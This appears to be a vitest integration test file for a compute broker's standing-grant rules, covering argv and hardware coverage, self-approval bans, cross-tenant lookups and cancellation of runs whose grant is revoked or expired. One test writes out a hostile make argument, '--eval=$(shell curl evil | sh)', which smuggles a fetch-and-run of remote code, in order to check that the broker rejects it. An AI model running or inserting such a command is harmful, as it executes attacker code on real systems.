import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { sweepGrants } from '../../../../src/broker/loops/grant-sweep.js';
import { Scheduler } from '../../../../src/broker/loops/scheduler.js';
import { moveGrant } from '../../../../src/broker/machines/standing-grant.js';
import type { RevisionResult } from '../../../../src/broker/tools/proposals.js';
import type { BrokerError } from '../../../../src/contracts/errors.js';
import type { ManualClock } from '../../../../src/platform/clock.js';
import type { Principal } from '../../../../src/store/principals-repo.js';
import { type BrokerFixture, makeBrokerDeps } from '../../../support/deps.js';
import { samples, WORKER } from '../../../support/enrolled-cluster.js';
import { validSpec } from '../../../support/spec.js';

// ADR 0029: "a grant bounds what runs, whatever the launcher", through the dispatcher on a real
// SQLite store. Each attack here was approved (or decided, or leaked) on main before the fix.

let f: BrokerFixture;
let alice: Principal;
let rita: Principal;
let ron: Principal;
let n = 0;
const key = () => `k${++n}`;

const err = async (p: Promise<unknown>) => (await p.catch((e: unknown) => e)) as BrokerError;

type Input = { path: string; sha256: string; size: number };

async function upload(files: Array<{ path: string; content: string }>): Promise<Input[]> {
  const r = (await f.invoke(alice, 'upload_inputs', { files, idempotency_key: key() })) as {
    inputs: Input[];
  };
  return r.inputs;
}

async function propose(argv: string[], inputs: Input[], over: Record<string, unknown> = {}) {
  return (await f.invoke(alice, 'create_proposal', {
    spec: validSpec({ runtime: { kind: 'process', argv }, inputs, ...over }),
    idempotency_key: key(),
  })) as RevisionResult;
}

type Confirmed = {
  state: string;
  task_id: string | null;
  grant?: { covered: boolean; grant_id: string | null; failing: { clause: string; message: string } | null };
};
const confirm = (r: RevisionResult) =>
  f.invoke(alice, 'confirm_revision', {
    proposal_id: r.proposal_id,
    revision_id: r.revision_id,
    idempotency_key: key(),
  }) as Promise<Confirmed>;

const approve = (by: Principal, r: RevisionResult) =>
  f.invoke(by, 'submit_review', {
    proposal_id: r.proposal_id,
    revision_id: r.revision_id,
    decision: 'APPROVE',
    comments: 'ok',
    idempotency_key: key(),
  });

type GrantOut = { grant: { grant_id: string; state: string; scope: Record<string, unknown> } };
const request = (by: Principal, base: string, scope: Record<string, unknown> = {}) =>
  f.invoke(by, 'request_grant', {
    base_revision_id: base,
    scope,
    max_runs: 5,
    max_card_hours: 1,
    concurrency: 10,
    ttl_seconds: 3600,
    reason: 'iterate',
    idempotency_key: key(),
  }) as Promise<GrantOut>;
const decide = (by: Principal, id: string, decision = 'APPROVE') =>
  f.invoke(by, 'decide_grant', { grant_id: id, decision, idempotency_key: key() }) as Promise<GrantOut>;

/** A revision a person approved (it ran), and an ACTIVE grant drafted from it, decided by rita. */
async function grantFrom(argv: string[], inputs: Input[], scope: Record<string, unknown> = {}) {
  const first = await propose(argv, inputs);
  await confirm(first);
  await approve(rita, first);
  const g = await request(alice, first.revision_id, scope);
  await decide(rita, g.grant.grant_id);
  return { first, grant_id: g.grant.grant_id };
}

beforeEach(() => {
  f = makeBrokerDeps({
    config: {
      policy: {
        executables: [{ path: '/bin/sh' }, { path: '/usr/bin/make' }, { path: '/usr/bin/python3' }],
        scripts: [{ interpreter: '/bin/sh', script_from_inputs: true }],
      },
      grants: { max_ttl_seconds: 7200 },
    },
  });
  alice = f.principal('alice', ['submitter']);
  rita = f.principal('rita', ['reviewer']);
  ron = f.principal('ron', ['reviewer']);
});

afterEach(() => f.close());

describe('extra arguments reach only a reviewed script', () => {
  it('a grant drafted from `make train` never covers `make train --eval=…` (argv is fixed)', async () => {
    const inputs = await upload([{ path: 'Makefile', content: 'train:\n\techo train\n' }]);
    const { grant_id } = await grantFrom(['/usr/bin/make', 'train'], inputs, { mutable_inputs: [] });
    const c = await confirm(
      await propose(['/usr/bin/make', 'train', '--eval=$(shell curl evil | sh)'], inputs),
    );
    expect(c.state).toBe('IN_REVIEW');
    expect(c.grant).toMatchObject({ grant_id, failing: { clause: 'argv' } });
    // The exact argv is still covered.
    expect((await confirm(await propose(['/usr/bin/make', 'train'], inputs))).state).toBe('APPROVED');
  });

  it('a grant over a script the policy runs from the inputs still lets arguments reach the script', async () => {
    const inputs = await upload([{ path: 'run.sh', content: 'echo "$@"\n' }]);
    await grantFrom(['/bin/sh', 'run.sh'], inputs);
    const c = await confirm(await propose(['/bin/sh', 'run.sh', '--epochs', '3'], inputs));
    expect(c.state).toBe('APPROVED');
  });
});

describe('a grant’s base is a revision a person read', () => {
  it('a revision approved only by a grant cannot be the base of a new grant', async () => {
    const inputs = await upload([{ path: 'run.sh', content: 'echo 1\n' }]);
    const { grant_id } = await grantFrom(['/bin/sh', 'run.sh'], inputs, { mutable_inputs: ['run.sh'] });
    const changed = await upload([{ path: 'run.sh', content: 'echo 2\n' }]);
    const auto = await propose(['/bin/sh', 'run.sh'], changed);
    expect((await confirm(auto)).state).toBe('APPROVED');
    const e = await err(request(alice, auto.revision_id));
    expect(e.code).toBe('INVALID_STATE');
    expect(e.message).toContain(`approved by grant ${grant_id}, no person read it`);
    // Nor by a reviewer drafting it for her.
    expect((await err(request(rita, auto.revision_id))).code).toBe('INVALID_STATE');
  });
});

describe('coverage compares every field that changes where or how a task runs', () => {
  it('a new card model or memory floor is not covered', async () => {
    const inputs = await upload([{ path: 'run.sh', content: 'echo 1\n' }]);
    await grantFrom(['/bin/sh', 'run.sh'], inputs);
    const model = await confirm(
      await propose(['/bin/sh', 'run.sh'], inputs, { cards: { count: 1, model: 'H100' } }),
    );
    expect(model.state).toBe('IN_REVIEW');
    expect(model.grant?.failing?.clause).toBe('cards');
    const memory = await confirm(
      await propose(['/bin/sh', 'run.sh'], inputs, { cards: { count: 1, min_memory_mib: 80000 } }),
    );
    expect(memory.state).toBe('IN_REVIEW');
    expect(memory.grant?.failing?.clause).toBe('cards');
  });
});

describe('the grant’s requester never decides it', () => {
  it('a reviewer who drafted a grant for someone else may not approve or reject it', async () => {
    const inputs = await upload([{ path: 'run.sh', content: 'echo 1\n' }]);
    const first = await propose(['/bin/sh', 'run.sh'], inputs);
    await confirm(first);
    await approve(rita, first);
    const g = await request(rita, first.revision_id);
    for (const decision of ['APPROVE', 'REJECT']) {
      const e = await err(decide(rita, g.grant.grant_id, decision));
      expect(e.code).toBe('SELF_GRANT_FORBIDDEN');
      expect(e.message).toMatch(/requested/);
    }
    // The database refuses it too, whatever a future code path forgets.
    expect(() =>
      f.deps.store.db
        .prepare("UPDATE standing_grants SET decided_by = ?, state = 'ACTIVE' WHERE id = ?")
        .run(rita.id, g.grant.grant_id),
    ).toThrow(/requester/);
    // Another reviewer may: the requester is a different principal than the grantee.
    expect((await decide(ron, g.grant.grant_id)).grant.state).toBe('ACTIVE');
  });

  it('a reviewer who is also the grantee may not decide it', async () => {
    const both = f.principal('bea', ['submitter', 'reviewer']);
    const inputs = (await f.invoke(both, 'upload_inputs', {
      files: [{ path: 'run.sh', content: 'echo 1\n' }],
      idempotency_key: key(),
    })) as { inputs: Input[] };
    const r = (await f.invoke(both, 'create_proposal', {
      spec: validSpec({ runtime: { kind: 'process', argv: ['/bin/sh', 'run.sh'] }, inputs: inputs.inputs }),
      idempotency_key: key(),
    })) as RevisionResult;
    await f.invoke(both, 'confirm_revision', {
      proposal_id: r.proposal_id,
      revision_id: r.revision_id,
      idempotency_key: key(),
    });
    await approve(rita, r);
    const g = await request(rita, r.revision_id);
    expect((await err(decide(both, g.grant.grant_id))).code).toBe('SELF_GRANT_FORBIDDEN');
  });
});

describe('explain_grant', () => {
  it('answers another tenant’s revision exactly as a revision that does not exist', async () => {
    const inputs = await upload([{ path: 'run.sh', content: 'echo 1\n' }]);
    const r = await propose(['/bin/sh', 'run.sh'], inputs);
    const bob = f.principal('bob', ['submitter']);
    const theirs = await err(f.invoke(bob, 'explain_grant', { revision_id: r.revision_id }));
    const none = await err(f.invoke(bob, 'explain_grant', { revision_id: 'rev_doesnotexist' }));
    expect(theirs.code).toBe('NOT_FOUND');
    expect(none.code).toBe('NOT_FOUND');
    expect(theirs.message.replace(r.revision_id, 'X')).toBe(none.message.replace('rev_doesnotexist', 'X'));
    expect(theirs.hint).toBe(none.hint);
    expect(JSON.stringify(theirs)).not.toContain(r.proposal_id);
    // Nor does another tenant's grant id answer otherwise than a missing one.
    const inputsOk = await upload([{ path: 'run.sh', content: 'echo 2\n' }]);
    const { grant_id } = await grantFrom(['/bin/sh', 'run.sh'], inputsOk);
    const grant = await err(f.invoke(bob, 'explain_grant', { grant_id, spec: validSpec() }));
    const noGrant = await err(f.invoke(bob, 'explain_grant', { grant_id: 'grt_nope', spec: validSpec() }));
    expect([grant.code, grant.message.replace(grant_id, 'X'), grant.hint]).toEqual([
      noGrant.code,
      noGrant.message.replace('grt_nope', 'X'),
      noGrant.hint,
    ]);
  });
});

describe('a run its grant no longer allows does not start', () => {
  function enroll() {
    const now = f.clock.now();
    f.deps.store.workers.upsertOnHello(
      {
        id: WORKER,
        hostname: 'host',
        provider: 'sim',
        version: '0',
        boot_id: 'boot-0',
        isolation: 'bwrap',
        container_engine: null,
        cards: samples.map((s) => ({
          index: s.index,
          uuid: s.uuid,
          model: s.model,
          memory_total_mib: 81920,
          simulated: true,
        })),
      },
      now,
    );
    f.deps.cluster.fleet.connected(WORKER, 'boot-0', samples, now);
    return new Scheduler(f.deps, f.deps.cluster.fleet, f.deps.cluster.link);
  }

  async function queuedByGrant() {
    const inputs = await upload([{ path: 'run.sh', content: 'echo 1\n' }]);
    const { grant_id } = await grantFrom(['/bin/sh', 'run.sh'], inputs);
    const c = await confirm(await propose(['/bin/sh', 'run.sh'], inputs));
    expect(c.state).toBe('APPROVED');
    return { grant_id, task_id: c.task_id! };
  }

  it('revoked before the lease: the queued task is cancelled, audited, and never assigned', async () => {
    const { grant_id, task_id } = await queuedByGrant();
    await f.invoke(rita, 'revoke_grant', { grant_id, idempotency_key: key() });
    const scheduler = enroll();
    scheduler.runPass();
    const t = f.deps.store.tasks.get(task_id)!;
    expect(t.state).toBe('CANCELLED');
    expect(t.reason).toMatchObject({ code: 'grant_not_active' });
    expect(f.deps.store.leases.latestLeaseForTask(task_id)).toBeUndefined();
    const audit = f.deps.store.audit.forSubject('task', task_id).map((e) => [e.action, e.data]);
    expect(audit).toContainEqual([
      'task.cancel_queued',
      expect.objectContaining({ grant_id, grant_state: 'REVOKED' }),
    ]);
  });

  it('expired before the lease (even before the sweeper marks it): cancelled, never assigned', async () => {
    const { grant_id, task_id } = await queuedByGrant();
    (f.clock as ManualClock).advance(3600 * 1000 + 1);
    expect(f.deps.store.grants.get(grant_id)?.state).toBe('ACTIVE');
    enroll().runPass();
    expect(f.deps.store.tasks.get(task_id)?.state).toBe('CANCELLED');
    expect(f.deps.store.leases.latestLeaseForTask(task_id)).toBeUndefined();
  });

  it('revoke_grant cancels the queued runs at once, cancel_running or not', async () => {
    const { grant_id, task_id } = await queuedByGrant();
    const out = (await f.invoke(alice, 'revoke_grant', { grant_id, idempotency_key: key() })) as {
      cancelled_task_ids: string[];
    };
    expect(out.cancelled_task_ids).toEqual([task_id]);
    expect(f.deps.store.tasks.get(task_id)?.state).toBe('CANCELLED');
    // Its reservation and slot are released: the run never started, so nothing is charged.
    expect(f.deps.store.grants.get(grant_id)).toMatchObject({ running: 0, card_seconds_reserved: 0 });
  });

  it('the sweeper that expires a grant cancels its queued runs', async () => {
    const { grant_id, task_id } = await queuedByGrant();
    (f.clock as ManualClock).advance(3600 * 1000 + 1);
    expect(sweepGrants(f.deps)).toBe(1);
    expect(f.deps.store.grants.get(grant_id)?.state).toBe('EXPIRED');
    expect(f.deps.store.tasks.get(task_id)).toMatchObject({
      state: 'CANCELLED',
      reason: { code: 'grant_not_active' },
    });
  });

  it('suspended (its breaker tripped) before the lease: cancelled, never assigned', async () => {
    const { grant_id, task_id } = await queuedByGrant();
    f.deps.store.transaction(() => moveGrant(f.deps, f.deps.store.grants.get(grant_id)!, 'suspend', 'test'));
    enroll().runPass();
    expect(f.deps.store.tasks.get(task_id)).toMatchObject({
      state: 'CANCELLED',
      reason: { code: 'grant_not_active' },
    });
  });

  // Fresh-eyes review: "before they start" includes ASSIGNED — a lease granted and the plan sent, the
  // worker still staging inputs or its Slurm job still pending (hours, on a busy cluster).
  it('revoked after the lease but before the worker started it: the assigned run is cancelled too', async () => {
    const { grant_id, task_id } = await queuedByGrant();
    enroll().runPass();
    expect(f.deps.store.tasks.get(task_id)?.state).toBe('ASSIGNED');
    const out = (await f.invoke(rita, 'revoke_grant', { grant_id, idempotency_key: key() })) as {
      cancelled_task_ids: string[];
    };
    expect(out.cancelled_task_ids).toEqual([task_id]);
    expect(f.deps.store.tasks.get(task_id)?.desired).toBe('cancel');
  });

  it('expired after the lease but before the worker started it: the sweeper cancels the assigned run', async () => {
    const { grant_id, task_id } = await queuedByGrant();
    enroll().runPass();
    expect(f.deps.store.tasks.get(task_id)?.state).toBe('ASSIGNED');
    (f.clock as ManualClock).advance(3600 * 1000 + 1);
    expect(sweepGrants(f.deps)).toBe(1);
    expect(f.deps.store.grants.get(grant_id)?.state).toBe('EXPIRED');
    expect(f.deps.store.tasks.get(task_id)?.desired).toBe('cancel');
  });

  it('a task its ACTIVE grant approved still starts', async () => {
    const { task_id } = await queuedByGrant();
    enroll().runPass();
    expect(f.deps.store.tasks.get(task_id)?.state).toBe('ASSIGNED');
  });
});
